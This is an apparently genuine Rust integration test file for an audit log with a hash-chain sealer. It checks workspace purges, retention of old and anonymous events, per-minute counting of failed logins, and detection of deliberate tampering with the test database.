            "workspace.create success operator/operator_token \"kept\"",
            "workspace.delete success operator/operator_token \"gone\"",
        ]
    );
    assert_eq!(found[0]["object"]["id"], found[2]["object"]["id"]);
    let deleted = events(&operator, path, &[("action", "workspace.delete".to_owned())]).await;
    assert_eq!(deleted.len(), 1);
    operator
        .get(&format!("{path}?occurred_at__lt=x"))
        .await
        .expect_fields(400, &["occurred_at__lt"]);
    assert_eq!(wait_until_sealed(&operator, verify).await, 3);
    // Nothing of the deleted workspace is left in D1 and in its sealer. The other workspace is
    // unchanged.
    eventually("the purge", || async {
        let left = instance
            .read_d1("SELECT DISTINCT CAST(workspace_id AS TEXT) FROM audit_events ORDER BY 1");
        let chains = instance.read_objects("Sealer", "SELECT CAST(workspace AS TEXT) FROM chains");
        (left.len() == 2 && chains.len() == 2).then_some(())
    })
    .await;
    assert_eq!(wait_until_sealed(&kept.admin, VERIFY).await, 3);
    instance.tamper_with_d1("DELETE FROM audit_events WHERE seq = 3");
    let broken = operator.post(verify, &json!({})).await.expect(200)["first_broken"].clone();
    assert_eq!(broken, json!({"link": 3, "event": null, "problem": "missing"}));
}

#[tokio::test]
async fn old_events_are_deleted_and_the_chain_stays_valid() {
    let (instance, state, workspace, last) = instance_with_chain().await;
    let id = acme_id(&instance);
    let of = format!("seq - ({id} << 40)");
    // Makes the first five events ten days old, as if they had been sealed then.
    let old = now().plus_seconds(-10 * 24 * 60 * 60);
    instance.tamper_with_d1(&format!(
        "UPDATE audit_events SET occurred_at = '{old}' WHERE workspace_id = {id} AND {of} <= 5"
    ));
    let (sql, head) = resealed(&instance, id);
    instance.stop().await;
    change_d1(state.path(), &sql);
    change_d1(state.path(), &format!("UPDATE audit_events SET actor_name = 'eve' WHERE {of} = 4"));
    let head = serde_json::to_string(&head).unwrap();
    let changed = change_objects(
        state.path(),
        "Sealer",
        &format!("UPDATE chains SET head = '{head}' WHERE workspace = {id}"),
    );
    assert_eq!(changed, 1);

    let instance = Instance::restart_with(state.path(), &[("AUDIT_RETENTION_DAYS", "7")]).await;
    let api = workspace.admin.with_url(&instance.url);
    let left = async |number: i64| {
        eventually("the old events to be deleted", || async {
            let found = events(&api, EVENTS, &[]).await.len() as i64;
            assert!(found >= number, "only {found} events are left");
            (found == number).then_some(())
        })
        .await;
    };
    // An altered event is not deleted, and neither is any event after it.
    left(last - 3).await;
    let broken = verify(&api, VERIFY).await["first_broken"].clone();
    assert_eq!((&broken["link"], &broken["problem"]), (&json!(4), &json!("altered")));
    instance.tamper_with_d1(&format!("UPDATE audit_events SET actor_name = 'boss' WHERE {of} = 4"));
    // Any new event makes the sealer run again.
    send(&api, "POST", TOKENS, json!({"name": "later", "expires_at": null})).await;
    left(last + 1 - 5).await;
    assert_eq!(wait_until_sealed(&api, VERIFY).await, last + 1 - 5);
    instance.tamper_with_d1(&format!(
        "INSERT INTO audit_events (seq, id, workspace_id, occurred_at, actor_type, action, outcome, details)
         VALUES (({id} << 40) + 3, 'x', {id}, '{old}', 'user', 'x.y', 'success', '{{}}')"
    ));
    assert_eq!(verify(&api, VERIFY).await["first_broken"]["problem"], "foreign");
    // The operator's own events are kept.
    assert_eq!(wait_until_sealed(&instance.operator(), "/operator/audit/verify/").await, 1);
}

/// Failed logins and reset requests must not fill the log. One event a minute has their number.
#[tokio::test]
async fn anonymous_events_are_counted_and_written_each_minute() {
    let (instance, state) = Instance::new().await;
    let workspace = Workspace::create_with(&instance.operator(), "acme").await;
    for _ in 0..3 {
        for username in ["boss", "nobody-here", "nobody-else"] {
            workspace.anonymous.log_in(username, "not the password").await.expect(403);
        }
    }
    for email in ["a@example.com", "boss@example.com", "b@example.com"] {
        workspace
            .anonymous
            .post("/api/auth/reset-password/", &json!({"email": email}))
            .await
            .expect(200);
    }
    let written = async |api: &Api| {
        let found = events(api, EVENTS, &[]).await;
        let anonymous = found.into_iter().filter(|event| event["actor"]["type"] == "anonymous");
        anonymous
            .map(|event| {
                (
                    event["action"].to_string(),
                    event["object"]["id"].clone(),
                    event["details"]["count"].clone(),
                )
            })
            .collect::<Vec<_>>()
    };
    let boss = workspace.admin.get("/api/iam/users/-/").await.expect(200)["id"].to_string();
    eventually("all reads to be counted", || async {
        let rows = instance.d1("SELECT sum(pending) AS n FROM anonymous_events");
        (rows[0]["n"] == 2 + 5 + 2).then_some(())
    })
    .await;
    let mut first = written(&workspace.admin).await;
    first.sort_by_key(|(action, object, _)| (action.clone(), object.to_string()));
    let event =
        |action: &str, object: Value, count: u32| (json!(action).to_string(), object, json!(count));
    let known = event("session.login", json!(boss), 1);
    assert_eq!(
        first,
        [
            known,
            event("session.login", Value::Null, 1),
            event("user.request_reset", Value::Null, 1)
        ]
    );

    // After a minute, the next event has the number since then.
    instance.d1("UPDATE anonymous_events SET written_at = '2020-01-01T00:00:00.000000+00:00'");
    workspace.anonymous.log_in("boss", "not the password").await.expect(403);
    eventually("the next event", || async {
        written(&workspace.admin)
            .await
            .contains(&event("session.login", json!(boss), 3))
            .then_some(())
    })
    .await;
    // If no further request follows, the cron trigger writes the event.
    instance.stop().await;
    let instance = Instance::restart(state.path()).await;
    let admin = workspace.admin.with_url(&instance.url);
    let all = eventually("the remaining events", || async {
        let all = written(&admin).await;
        (all.len() == 6).then_some(all)
    })
    .await;
    assert!(all.contains(&event("session.login", Value::Null, 5)), "{all:?}");
    let resets = events(&admin, EVENTS, &[("action", "user.request_reset".to_owned())]).await;
    let counted = resets.iter().find(|event| event["details"]["count"] == 2).unwrap();
    assert_eq!(counted["details"]["users"], json!([boss]));
    wait_until_sealed(&admin, VERIFY).await;
}

/// Old anonymous events leave the chain, and it can still be verified. No other event can be
/// removed in this way.
#[tokio::test]
async fn only_old_anonymous_events_expire() {
    let (instance, state) = Instance::new().await;
    let workspace = Workspace::create_with(&instance.operator(), "acme").await;
    let token = |name: &str| json!({"name": name, "expires_at": null});
    let guess = async |username: &str| {
        workspace.anonymous.log_in(username, "not the password").await.expect(403)
    };
    guess("boss").await;
    send(&workspace.admin, "POST", TOKENS, token("between")).await;
    guess("nobody-here").await;
    let reset = json!({"email": "stranger@example.com"});
    workspace.anonymous.post("/api/auth/reset-password/", &reset).await.expect(200);
    send(&workspace.admin, "POST", TOKENS, token("last old one")).await;
    instance
        .operator()
        .with_authorization(&format!("Bearer {}", "x".repeat(40)))
        .get("/operator/workspaces/")
        .await
        .expect(403);
    eventually("all events", || async {
        let list = workspace.admin.get(EVENTS).await.expect(200);
        let of_cell = instance.operator().get("/operator/audit/events/").await.expect(200);
        (list["count"] == 8 && of_cell["count"] == 2).then_some(())
    })
    .await;
    let old_links = wait_until_sealed(&workspace.admin, VERIFY).await;
    assert_eq!(
        (old_links, wait_until_sealed(&instance.operator(), "/operator/audit/verify/").await),
        (8, 2)
    );
    // Makes all events ten days old, as if they had been sealed then.
    let id = acme_id(&instance);
    let old = now().plus_seconds(-10 * 24 * 60 * 60);
    instance.tamper_with_d1(&format!("UPDATE audit_events SET occurred_at = '{old}'"));
    let chains = [(id, resealed(&instance, id)), (0, resealed(&instance, 0))];
    instance.stop().await;
    for (workspace, (sql, head)) in &chains {
        change_d1(state.path(), sql);
        let head = serde_json::to_string(head).unwrap();
        let sql = format!("UPDATE chains SET head = '{head}' WHERE workspace = {workspace}");
        assert_eq!(change_objects(state.path(), "Sealer", &sql), 1);
    }

    let instance =
        Instance::restart_with(state.path(), &[("ANONYMOUS_AUDIT_RETENTION_DAYS", "7")]).await;
    let (api, operator) = (workspace.admin.with_url(&instance.url), instance.operator());
    let left = async |api: &Api, path: &str, expected: &[&str]| {
        eventually("the old events to be deleted", || async {
            let found = events(api, path, &[]).await;
            let actions: Vec<_> =
                found.iter().map(|event| event["action"].as_str().unwrap().to_owned()).collect();
            (actions == expected).then_some(())
        })
        .await;
    };
    let of_users = [
        "workspace.create",
        "session.login",
        "api_token.create",
        "api_token.create",
        "api_token.create",
    ];
    left(&api, EVENTS, &of_users).await;
    left(&operator, "/operator/audit/events/", &["workspace.create"]).await;
    let whole = json!({"valid": true, "links": 8, "unsealed": 0, "expired": 3, "first_broken": null, "next_link": null});
    assert_eq!(verify(&api, VERIFY).await, whole);
    assert_eq!(verify(&operator, "/operator/audit/verify/").await["expired"], 1);
    // A verification may start at any entry.
    for first in 1..=9 {
        let found = api.post(VERIFY, &json!({"first_link": first})).await.expect(200);
        assert_eq!(
            (&found["valid"], &found["links"]),
            (&json!(true), &json!(9 - first)),
            "{first}"
        );
    }

    // Adds a recent anonymous event, and seals it. The table is cleared first, because there was an
    // event within the last minute.
    instance.tamper_with_d1("DELETE FROM anonymous_events");
    workspace
        .anonymous
        .with_url(&instance.url)
        .log_in("boss", "not the password")
        .await
        .expect(403);
    send(&api, "POST", TOKENS, token("young")).await;
    eventually("the recent events", || async {
        (wait_until_sealed(&api, VERIFY).await == 10).then_some(())
    })
    .await;
    let all = events(&api, EVENTS, &[]).await;
    let link = |action: &str| {
        all.iter().rfind(|event| event["action"] == action).unwrap()["link"].as_i64().unwrap()
    };
    let (young, users) = (link("session.login"), link("api_token.create").min(3));
    let columns = farhand_domain::audit::chain::COLUMNS.join(", ");
    let of = format!("workspace_id = {id} AND seq - ({id} << 40)");
    let of_expired = format!("workspace_id = {id} AND link");
    let as_expired = |link: i64| {
        let row = instance.read_d1(&format!(
            "SELECT json_array({link}, NULL, json_array({columns})) FROM audit_events WHERE {of} = {link}"
        ));
        let row: ChainEntry = serde_json::from_str(&row[0]).unwrap();
        let digest = row.digest();
        format!(
            "INSERT INTO audit_expired VALUES ({id}, {link}, 9, '{digest}'); DELETE FROM audit_events WHERE {of} = {link}"
        )
    };
    let expired: Vec<i64> = instance
        .read_d1(&format!(
            "SELECT CAST(link AS TEXT) FROM audit_expired WHERE workspace_id = {id} ORDER BY link"
        ))
        .iter()
        .map(|link| link.parse().unwrap())
        .collect();
    assert_eq!(expired.len(), 3);
    instance.tamper_with_d1("CREATE TABLE kept AS SELECT * FROM audit_events");
    instance.tamper_with_d1("CREATE TABLE kept_expired AS SELECT * FROM audit_expired");
    instance.tamper_with_d1("CREATE TABLE kept_seals AS SELECT * FROM audit_seals");
    for (name, sql, link, problem) in [
        (
            "an expired entry is removed",
            format!("DELETE FROM audit_expired WHERE {of_expired} = {}", expired[1]),
            expired[1],
            "missing",
        ),
        (
            "its digest",
            format!("UPDATE audit_expired SET digest = 'x' WHERE {of_expired} = {}", expired[0]),
            expired[0],
            "altered",
        ),
        (
            "its hash",
            format!(
                "UPDATE audit_seals SET hashes = substr(hashes, 1, 64 * {0} - 64) || 'x' || substr(hashes, 64 * {0} - 62)
                 WHERE first = ({id} << 40) + 1",
                expired[0]
            ),
            expired[0],
            "altered",
        ),
        ("an event of a user", as_expired(users), users, "altered"),
        ("a young event", as_expired(young), young, "missing"),
        ("an event is removed without an entry", format!("DELETE FROM audit_events WHERE {of} = {young}"), young, "missing"),
    ] {
        instance.tamper_with_d1(&sql);
        let broken = verify(&api, VERIFY).await["first_broken"].clone();
        assert_eq!(broken, json!({"link": link, "event": null, "problem": problem}), "{name}");
        instance.tamper_with_d1(
            "DELETE FROM audit_events; INSERT INTO audit_events SELECT * FROM kept;
             DELETE FROM audit_expired; INSERT INTO audit_expired SELECT * FROM kept_expired;
             DELETE FROM audit_seals; INSERT INTO audit_seals SELECT * FROM kept_seals",
        );
        assert_eq!(verify(&api, VERIFY).await["valid"], true, "{name}, after restoring");
    }
    instance.tamper_with_d1("DROP TABLE kept; DROP TABLE kept_expired; DROP TABLE kept_seals");

    // The retention of all events also deletes the expired entries.
    instance.stop().await;
    let instance = Instance::restart_with(state.path(), &[("AUDIT_RETENTION_DAYS", "7")]).await;
    let (api, operator) = (workspace.admin.with_url(&instance.url), instance.operator());
    left(&api, EVENTS, &["session.login", "api_token.create"]).await;
    assert_eq!(wait_until_sealed(&api, VERIFY).await, 2);
    assert_eq!(wait_until_sealed(&operator, "/operator/audit/verify/").await, 2);
    let rows = instance.read_d1("SELECT CAST(workspace_id AS TEXT) FROM audit_expired");
    assert_eq!(rows, ["0"]);
}
